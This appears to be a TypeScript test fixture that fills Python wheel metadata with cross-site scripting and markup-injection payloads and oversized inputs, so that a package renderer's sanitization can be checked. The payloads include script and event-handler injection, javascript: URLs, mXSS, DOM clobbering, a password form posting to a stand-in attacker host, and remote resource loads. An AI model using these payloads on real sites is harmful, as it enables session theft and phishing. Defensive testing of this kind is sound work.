/** What strangers put into METADATA to run on somebody else's page, to ask another host for something, or to break it. */
import type { MetadataFields } from "../../../support/make-metadata.ts";
import type { WheelOptions } from "../../../support/make-wheel.ts";

/** Each stands alone in a README and in every field. `attacked` reports to the test that a script has run. */
export const ATTACKS: readonly string[] = [
  "<script>attacked('script')</script>",
  "<script src='https://evil.example.org/a.js'></script>",
  "<ScRiPt\n>attacked('case')</sCrIpT\n>",
  "<scr<script>ipt>attacked('nested')</scr</script>ipt>",
  "<<script>attacked('double')//<</script>",
  "<img src=x onerror=attacked('onerror')>",
  "<img src='x' onerror='alert(1)'>",
  '<img """><script>attacked("quotes")</script>">',
  "<img src=https://evil.example.org/pixel.png>",
  "<img srcset='https://evil.example.org/a.png 1x' src='//evil.example.org/b.png'>",
  "<svg onload=attacked('svg')><script>attacked('in svg')</script></svg>",
  "<svg><a xlink:href='javascript:attacked(1)'><text y=20>click</text></a></svg>",
  "<svg><style><img src=x onerror=attacked('svg style')></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=attacked(&#39;mxss&#39;)>'></table></math>",
  "<math href='javascript:attacked(1)'>click</math>",
  "<iframe src='javascript:attacked(1)'></iframe><iframe srcdoc='<script>parent.attacked(1)</script>'></iframe>",
  "<object data='https://evil.example.org/a.swf'></object><embed src='https://evil.example.org/a.swf'>",
  "<form action='https://evil.example.org/' method=post><input name=password autofocus onfocus=attacked('focus')><button>Sign in</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
  "<base href='https://evil.example.org/'>",
  "<link rel=stylesheet href='https://evil.example.org/a.css'>",
  "<link rel=prefetch href='https://evil.example.org/a'><link rel=dns-prefetch href='//evil.example.org'>",
  "<style>@import 'https://evil.example.org/a.css'; body { display: none }</style>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example.org/a.png)'>cover</div>",
  "<p class='top skip search results' hidden>classes of the page</p>",
  "<a href='javascript:attacked(1)'>javascript</a>",
  "<a href='JaVaScRiPt&colon;attacked(1)'>entity</a>",
  "<a href='java\tscript:attacked(1)'>tab</a>",
  "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;attacked(1)'>numbers</a>",
  "<a href='\u0001javascript:attacked(1)'>control</a>",
  "<a href='vbscript:msgbox(1)'>vbscript</a>",
  "<a href='data:text/html,<script>attacked(1)</script>'>data</a>",
  "<a href='file:///etc/passwd'>file</a><a href='//evil.example.org/'>no scheme</a>",
  "<a href='https://evil.example.org/evil-9.9-py3-none-any.whl'>a file for installers</a>",
  "<a id=main name=search href='https://example.org/' onclick=attacked('click') target=_blank ping='https://evil.example.org/'>link</a>",
  "<form id=body><img name=getElementById><input id=attributes></form><p id=install name=body>clobbering</p>",
  "[md](javascript:attacked(1)) [data](data:text/html;base64,PHNjcmlwdD4=) <javascript:attacked(1)>",
  "![md](https://evil.example.org/a.png) ![js](javascript:attacked(1)) [![both](https://evil.example.org/b.png)](javascript:attacked(1))",
  "[ref]: javascript:attacked(1)\n\n[a link][ref]",
  "```html onload=attacked(1) \"><script>attacked('info')</script>\n</code></pre><script>attacked('fence')</script>\n```",
  "`</code><script>attacked('code')</script>`",
  "| <script>attacked('cell')</script> | a |\n| - | - |\n| <img src=x onerror=attacked('td')> | b |",
  "<table background='https://evil.example.org/a.png'><td background='//evil.example.org/b.png'>old</table>",
  "<video poster='https://evil.example.org/a.png' src='https://evil.example.org/a.mp4' autoplay onplay=attacked(1)></video>",
  "<audio src='https://evil.example.org/a.mp3' autoplay></audio><source src='//evil.example.org/a'>",
  "<details open ontoggle=attacked('toggle')><summary>open</summary></details>",
  "<marquee onstart=attacked('marquee')>x</marquee><blink>x</blink>",
  "<template><script>attacked('template')</script></template><noscript><p title='</noscript><img src=x onerror=attacked(1)>'></noscript>",
  "<textarea><script>attacked('textarea')</script></textarea><title>Another title</title>",
  "<xmp><script>attacked('xmp')</script></xmp><plaintext><b>never closed",
  "</div></section></main></body></html><h1>Outside</h1><script>attacked('outside')</script>",
  "<!-- <script>attacked('comment')</script> --><![CDATA[<script>attacked('cdata')</script>]]><?php attacked(1) ?>",
  "<div><span><b><i><table><tr><td><ul><li>never closed",
  "&lt;script&gt;attacked('escaped')&lt;/script&gt; &amp;lt; &#60;script&#62; &nosuch; &#0; &#xD800; &#1114112;",
  "\u202Egpj.exe\u202C \u2066isolate without an end \u200F \u0000 \uFFFE \u0008 \uFEFF",
  "<%= it.constructor.constructor('attacked(1)')() %> {{constructor.constructor('attacked(1)')()}} ${attacked(1)}",
  "\"'><script>attacked('attribute')</script><a title='",
  "javascript:attacked('bare')",
];

const ONE_LINE = ATTACKS.map((attack) => attack.replaceAll(/[\n\r\0]/g, " "));

/** One attack in every field. */
function everywhere(attack: string): MetadataFields {
  const field = attack.replaceAll(/[\n\r\0]/g, " ");
  return {
    summary: field,
    description: attack,
    headers: {
      "Description-Content-Type": "text/markdown",
      Author: field,
      Maintainer: field,
      "Author-email": `${field} <a@example.org>`,
      Keywords: field,
      License: field,
      "Home-page": field,
      "Download-URL": "javascript:attacked('download')",
      "Project-URL": [
        `${field.replaceAll(",", " ")}, https://example.org/`,
        `Docs, ${field}`,
        "Js, javascript:attacked(1)",
      ],
      Classifier: [`${field} :: ${field}`],
    },
  };
}

/** A project for each attack, and one of all in each kind of description. */
export function hostileWheels(): readonly WheelOptions[] {
  const all = ATTACKS.join("\n\n");
  return [
    ...ATTACKS.map((attack, number) => ({
      name: `attack-${number}`,
      version: "1.0",
      metadata: everywhere(attack),
    })),
    ...["text/markdown", "text/x-rst", "text/plain", "text/html", "<script>attacked(1)</script>"].map(
      (type, number) => ({
        name: `all-${number}`,
        version: "1.0",
        metadata: {
          summary: ONE_LINE.join(" "),
          description: all,
          headers: { "Description-Content-Type": type, Keywords: ONE_LINE.join(","), Classifier: ONE_LINE },
        },
      }),
    ),
  ];
}

/** Projects that are too much rather than evil: more than anybody would write by hand. */
export function hugeWheels(): readonly WheelOptions[] {
  const one = (name: string, metadata: MetadataFields): WheelOptions => ({ name, version: "1.0", metadata });
  const type = { "Description-Content-Type": "text/markdown" };
  return [
    one("long-description", {
      description: "**word** [link](https://example.org/) `code`\n\n".repeat(110_000),
      headers: type,
    }),
    one("long-line", { description: "word ".repeat(200_000), headers: type }),
    one("deep-quotes", { description: `${">".repeat(20_000)} a\n\n${"- ".repeat(10_000)}b`, headers: type }),
    one("deep-tags", { description: "<div>".repeat(50_000), headers: type }),
    one("open-brackets", {
      description: `${"[".repeat(50_000)}\n\n${"![](".repeat(20_000)}\n\n${"*a_ ".repeat(50_000)}`,
      headers: type,
    }),
    one("wide-table", {
      description: `${"| a ".repeat(2000)}|\n${"| - ".repeat(2000)}|\n${`${"| b ".repeat(2000)}|\n`.repeat(20)}`,
      headers: type,
    }),
    one("many-dependencies", {
      requiresDist: Array.from({ length: 10_000 }, (_, number) => `part-${number} >=1.${number}`),
    }),
    one("many-classifiers", {
      headers: {
        Classifier: Array.from({ length: 10_000 }, (_, number) => `Topic :: ${number} ${"x".repeat(90)}`),
      },
    }),
    one("one-long-classifier", {
      headers: {
        Classifier: "x".repeat(1_000_000),
        Keywords: "k,".repeat(100_000),
        License: "l".repeat(500_000),
      },
    }),
    one("long-summary", {
      summary: "s".repeat(500_000),
      headers: { Author: "a".repeat(500_000), "Author-email": "<".repeat(100_000) },
    }),
  ];
}
